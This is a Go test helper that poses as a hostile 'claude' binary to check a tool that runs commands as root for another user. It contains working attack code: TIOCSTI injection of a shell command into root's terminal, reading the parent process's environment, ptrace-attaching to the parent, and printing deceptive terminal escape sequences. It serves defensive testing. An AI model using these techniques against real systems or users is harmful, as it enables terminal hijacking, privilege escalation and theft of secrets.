// The Go runtime would keep the cgroup's CPU limit files open to follow
// them: descriptors of its own that the report must not take for inherited.

//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0

// Command hostile-claude is a local user's hostile `claude`, for the tests of
// root acting for that user (--user): whatever root starts it as (the
// check, `claude --version`, exec's command), it tries to type into root's
// terminal (TIOCSTI on /dev/tty and on its stdin, stdout and stderr), to read
// and trace its parent, and writes what it had (its environment, its open
// descriptors, its terminal) to $HOME/hostile-<mode>-<pid>.json. Then it
// prints escape sequences and control characters where root would see them.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// Injected is what it types into a terminal it reaches: a command a root
// shell would run.
const Injected = "touch /tmp/hostile-claude-was-here\n"

type report struct {
	Mode    string            `json:"mode"`
	UID     int               `json:"uid"`
	Env     []string          `json:"env"`
	FDs     map[string]string `json:"fds"`     // open descriptor -> what it is
	DevTTY  string            `json:"dev_tty"` // "opened", or the errno of open(/dev/tty)
	STI     map[string]string `json:"sti"`     // TIOCSTI target -> "ok" or its errno
	Parent  map[string]string `json:"parent"`  // what it could do to its parent
	Session bool              `json:"session_leader"`
}

func main() {
	mode := "exec"
	if len(os.Args) > 1 {
		switch os.Args[1] {
		case "--version":
			mode = "version"
		case "-p":
			mode = "check"
		}
	}
	// Descriptors first, before this program opens any of its own.
	r := report{Mode: mode, UID: os.Getuid(), FDs: map[string]string{}, STI: map[string]string{}, Parent: map[string]string{}}
	for fd := 0; fd < 1024; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil {
			link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			r.FDs[strconv.Itoa(fd)] = link
		}
	}
	r.Env = os.Environ()
	sid, _ := unix.Getsid(0)
	r.Session = sid == os.Getpid()
	for fd := 0; fd <= 2; fd++ {
		r.STI[strconv.Itoa(fd)] = sti(fd)
	}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		r.DevTTY = unix.ErrnoName(err.(unix.Errno))
	} else {
		r.DevTTY = "opened"
		r.STI["/dev/tty"] = sti(fd)
		unix.Close(fd)
	}
	ppid := os.Getppid()
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", ppid)); err != nil {
		r.Parent["environ"] = errno(err)
	} else {
		r.Parent["environ"] = "read: " + strings.ReplaceAll(string(b), "\x00", " ")
	}
	if err := unix.PtraceAttach(ppid); err != nil {
		r.Parent["ptrace"] = errno(err)
	} else {
		r.Parent["ptrace"] = "attached"
		var ws unix.WaitStatus
		unix.Wait4(ppid, &ws, unix.WALL, nil) // its stop, then let it go
		unix.PtraceDetach(ppid)
	}
	b, _ := json.Marshal(r)
	os.WriteFile(fmt.Sprintf("%s/hostile-%s-%d.json", os.Getenv("HOME"), mode, os.Getpid()), b, 0o644)

	const nasty = "\x1b]0;pwned-title\x07\x1b[2J\x1b[H\x1b[31mRED\x1b[0m\u009b31m\x07\r\b\x7f\x1bP+q\x1b\\"
	switch mode {
	case "version":
		fmt.Println("2.1.332 (Claude Code) " + nasty + "HOSTILE-VERSION")
	case "check":
		fmt.Fprintln(os.Stderr, "API Error: 529 overloaded "+nasty+"HOSTILE-ERROR\nsecond line")
		os.Exit(1)
	default:
		fmt.Println("HOSTILE-EXEC ran " + nasty)
	}
}

func sti(fd int) string {
	for _, c := range []byte(Injected) {
		b := c
		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(b)); err != nil {
			return errno(err)
		}
	}
	return "ok"
}

func errno(err error) string {
	for e := err; e != nil; {
		if n, ok := e.(unix.Errno); ok {
			return unix.ErrnoName(n)
		}
		u, ok := e.(interface{ Unwrap() error })
		if !ok {
			break
		}
		e = u.Unwrap()
	}
	return err.Error()
}
